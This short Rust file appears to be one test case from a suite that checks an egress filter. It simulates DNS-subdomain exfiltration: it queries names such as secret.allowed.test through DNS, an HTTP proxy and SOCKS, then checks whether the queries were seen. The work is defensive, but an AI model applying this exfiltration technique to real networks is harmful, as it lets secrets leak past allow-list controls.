//! Carries data out in names below an allowed one, whose owner is an accomplice.
//!
//! Stopped by: an exact name is not a pattern.

use super::prelude::*;

use hickory_proto::rr::RecordType;

pub const ATTACK: Attack = Attack {
    name: "dns_below_allowed",
    about: "data in names below an allowed one",
    attack: |_| {
        drop(client::ask(client::nameserver(), "secret.allowed.test", RecordType::A));
        drop(client::http_door(&client::get_absolute("secret-2.allowed.test:80")));
        drop(client::socks_name(b"secret-3.allowed.test", 443));
        Verdict::Tried("asked".into())
    },
    effect: Some(|_, _| {
        world::get().seen.find(|seen| matches!(seen, Seen::Question { name, .. } if name.starts_with("secret")))
    }),
    ..BASE
};
